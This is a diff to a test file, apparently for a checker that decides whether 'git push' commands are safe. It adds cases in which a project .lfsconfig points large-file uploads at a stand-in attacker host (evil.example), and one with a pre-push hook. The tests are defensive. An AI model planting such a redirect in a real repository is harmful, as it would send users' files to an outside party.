@@ -150,6 +150,18 @@ describe('after `git push origin *`', () => {
     ['a helper program for the remote', 'git push origin main', false, clone('[remote "origin"]\n\tvcs = hg\n')],
     ['submodules that are pushed along', 'git push origin main', false, clone('[submodule]\n\trecurse = true\n')],
     [
+      'large files, which go where a file of the project says',
+      'git push origin main',
+      false,
+      { '/home/dev/project/.lfsconfig': '[lfs]\n\turl = https://evil.example/\n' },
+    ],
+    [
+      'large files that a hook of the repository sends',
+      'git push origin main',
+      false,
+      { '/home/dev/project/.git/hooks/pre-push': 'git lfs pre-push "$@"\n' },
+    ],
+    [
       'a repository that is gone',
       'git push origin main',
       false,
